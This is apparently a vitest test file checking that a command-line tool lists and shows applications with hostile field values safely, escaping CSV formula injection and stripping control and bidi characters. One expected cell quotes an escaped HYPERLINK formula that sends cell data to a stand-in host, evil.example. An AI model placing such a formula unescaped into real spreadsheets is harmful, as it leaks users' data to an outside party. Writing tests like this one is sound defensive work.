import { expect, test } from 'vitest';
import { generate } from '#tests/server/office/generated.ts';
import { officeIn, ownFolder } from '#tests/server/office/officeIn.ts';

test('applications with hostile names in every field are listed, one row each, and shown with all answers', async () => {
  const dataDir = await ownFolder();
  const stored = await generate(dataDir, 44);
  const run = officeIn(dataDir);

  const { out, code } = await run('list');

  const [, ...rows] = out.trimEnd().split('\n');
  expect(code).toBe(0);
  expect(rows.map((row) => row.split(/ {2,}/)[2])).toEqual(stored.map(({ reference }) => reference));
  const sheet = (await run('list', '--csv')).out;
  expect(sheet.slice(1).trimEnd().split('\r\n')).toHaveLength(45);
  // No cell begins like a formula.
  expect(sheet).not.toMatch(/(?:^|,)"[=+\-@＝]/m);
  expect(sheet).toContain(`"'=HYPERLINK(""https://evil.example?""&A1,""Click"")`);
  for (const { reference } of stored) {
    const { out: shown, code: ended } = await run('show', reference);
    expect(ended).toBe(0);
    expect(shown).toContain(reference);
    expect(shown).not.toContain('OTHER ANSWERS');
    expect(shown).not.toMatch(/[^\P{Cc}\n]|[\u202a-\u202e]/u);
  }
});
